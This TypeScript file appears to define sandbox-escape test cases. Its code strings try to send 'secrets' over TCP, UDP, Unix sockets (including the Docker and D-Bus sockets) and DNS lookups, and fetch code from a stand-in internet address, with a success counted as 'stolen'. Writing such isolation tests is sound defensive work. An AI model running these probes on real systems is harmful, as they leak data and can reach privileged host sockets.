import type { Theme } from '../Attack';
import { tools, wrongC4 } from './source';

/** Everything outside. */
export const network: Theme = {
  name: 'network',
  attacks: [
    {
      name: 'a server of this machine',
      tries: 'Talks to a program that listens on this machine, by TCP.',
      answers: ({ tcpPort }) => ({
        '1-2': `${tools} ${wrongC4}
        for (const host of ['127.0.0.1', '::1', 'localhost', '0.0.0.0']) await new Promise<void>((resolve) => {
          const socket = net.connect(${tcpPort}, host, () => stolen('a server'));
          socket.on('error', () => resolve()).write('secrets of this machine'); setTimeout(resolve, 1000);
        });`,
      }),
    },
    {
      name: 'packets',
      tries: 'Sends packets, which need no reply, to this machine and to the internet.',
      answers: ({ udpPort }) => ({
        '1-2': `${tools} ${wrongC4}
        const socket = dgram.createSocket('udp4').on('error', () => undefined);
        for (const host of ['127.0.0.1', '192.0.2.1', '255.255.255.255']) attempt(() => socket.send('secrets', ${udpPort}, host, () => undefined));
        await new Promise((resolve) => setTimeout(resolve, 500));`,
      }),
    },
    {
      name: 'sockets without a network',
      tries: 'Talks to programs on this machine through sockets with and without a file.',
      answers: ({ abstractSocket, socketFile }) => ({
        '1-2': `${tools} ${wrongC4}
        for (const path of ['\\0${abstractSocket}', '${socketFile}', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0']) await new Promise<void>((resolve) => {
          const socket = net.connect({ path }, () => stolen(path.slice(1)));
          socket.on('error', () => resolve()).write('secrets'); setTimeout(resolve, 500);
        });`,
      }),
    },
    {
      name: 'names and the world',
      tries: 'Leaks data in the host names that it looks up, and asks the internet for the answer.',
      answers: () => ({
        '1-2': `${tools} ${wrongC4}
        const found = await Promise.race([
          load('node:dns').promises.resolve4('secret.example.com').then(() => true, () => false),
          new Promise<boolean>((resolve) => setTimeout(resolve, 2000, false)),
        ]);
        if (found) stolen('a name server');
        const text = await fetch('http://192.0.2.1/answer.ts', { signal: AbortSignal.timeout(1000) }).then(() => true, () => false);
        if (text) stolen('the world');`,
      }),
    },
  ],
};
